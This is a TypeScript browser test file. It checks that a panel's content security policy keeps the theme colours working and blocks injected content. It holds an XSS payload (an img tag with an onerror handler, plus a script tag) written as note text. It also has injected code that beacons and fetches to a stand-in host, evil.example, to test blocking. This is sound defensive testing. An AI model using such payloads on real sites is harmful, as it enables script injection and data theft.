import { teamsLightTheme } from "@fluentui/react-components";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { runWords } from "#shared/words/run.ts";
import { words } from "#shared/words.ts";
import { launchChromium } from "../commands/chromium.ts";
import { type LocalServer, localServer } from "./local-server.ts";
import { openPanel } from "./panel.ts";

let browser: Browser;
let server: LocalServer;
beforeAll(async () => {
  [browser, server] = await Promise.all([launchChromium(), localServer()]);
});
afterAll(async () => {
  await browser?.close();
  await server?.stop();
});

/** Writes down, in every frame, what the content security policy stopped. */
async function watchPolicy(page: Page): Promise<string[]> {
  const stopped: string[] = [];
  await page.exposeFunction("noteStopped", (what: string) => stopped.push(what));
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (event) => {
      const note: unknown = Reflect.get(window, "noteStopped");
      const { effectiveDirective, blockedURI } = event;
      if (typeof note === "function") note(`${effectiveDirective} ${blockedURI}`);
    });
  });
  return stopped;
}

test("[R172] the panel works, and has its colours, under the content security policy", async () => {
  let stopped: string[] = [];
  const policies: string[] = [];
  const ana = await openPanel(browser, server.url, "ana", {
    async before(page) {
      stopped = await watchPolicy(page);
      page.on("response", (response) => {
        if (!/\/tab\/(\?|$)/.test(response.url())) return;
        policies.push(response.headers()["content-security-policy"] ?? "");
      });
    },
  });
  await ana.chooses("Humour Workshop");
  const start = ana.frame.getByRole("button", { name: words.panel.start, exact: true });
  const colour = await start.evaluate((button) => getComputedStyle(button).backgroundColor);
  expect(colour).toBe(rgbOf(teamsLightTheme.colorBrandBackground));
  expect(policies[0]).toContain("connect-src 'self' https://res.cdn.office.net");
  expect(policies[0]).toContain("frame-ancestors 'self'");
  expect(policies[0]).not.toMatch(/unsafe|\*|http:/);

  await ana.press(words.panel.start);
  await ana.press(/^Next: /);
  const note = "<img src=x onerror=\"document.title='taken'\"><script>1</script>";
  await ana.writes(note);
  await ana.press(runWords.showNotes);
  await ana.press(runWords.showNow);
  await ana.sees(note);
  expect(await ana.frame.locator("img[src=x], script:not([src])").count()).toBe(0);
  expect(await ana.frame.evaluate(() => document.title)).not.toBe("taken");
  expect([stopped, ana.complaints]).toEqual([[], []]);
});

test("[R172] what is put into the page all the same does not run, and the page says so", async () => {
  let stopped: string[] = [];
  const ben = await openPanel(browser, server.url, "ben", {
    async before(page) {
      stopped = await watchPolicy(page);
    },
  });
  const ran = await ben.frame.evaluate(async () => {
    const script = document.createElement("script");
    script.textContent = "document.title = 'taken'";
    document.body.append(script);
    const image = new Image();
    image.src = "https://evil.example/?what-was-read";
    await fetch("https://evil.example/").catch(() => undefined);
    return document.title === "taken";
  });
  expect(ran).toBe(false);
  await expect
    .poll(() => stopped.map((what) => what.split(" ")[0]).toSorted())
    .toEqual(["connect-src", "img-src", "script-src-elem"]);
});

/** `#5b5fc7` as a browser writes it. */
function rgbOf(hex: string): string {
  const [red, green, blue] = [1, 3, 5].map((at) => Number.parseInt(hex.slice(at, at + 2), 16));
  return `rgb(${red}, ${green}, ${blue})`;
}
